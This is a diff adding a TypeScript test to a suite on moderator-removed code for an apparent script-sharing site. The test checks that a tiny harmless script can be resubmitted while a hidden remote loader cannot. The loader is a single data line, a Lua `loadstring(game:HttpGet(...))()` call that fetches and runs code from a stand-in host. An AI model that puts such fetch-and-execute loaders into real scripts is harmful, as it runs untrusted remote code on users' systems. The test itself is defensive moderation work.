@@ -232,6 +232,23 @@ describe('code that moderators removed', () => {
     }
   })
 
+  test('that is tiny stays allowed, unless it does something serious', async () => {
+    const [author, other] = [await join(), await join()]
+    const harmless = `print("tiny ${++serial}")`
+    const loader = `loadstring(game:HttpGet("https://x.example/${++serial}"))()`
+    for (const script_content of [harmless, loader]) {
+      const id = await publish(site, author.headers, {
+        script_content,
+        declared_capabilities: ['net.get', 'code.remote'],
+      })
+      await hide(id)
+    }
+    const body = { ...minimalScript, declared_capabilities: ['net.get', 'code.remote'] }
+    const send = (script_content: string) => sendScript(site, other.headers, { ...body, script_content })
+    expect(outcome(await send(harmless))).toEqual(accepted)
+    expect(outcome(await send(loader))).toEqual(conflict)
+  })
+
   test('a deletion removes no code, and neither does hiding a copy', async () => {
     const [author, other] = [await join(), await join()]
     const { code, renamed } = makeCode()
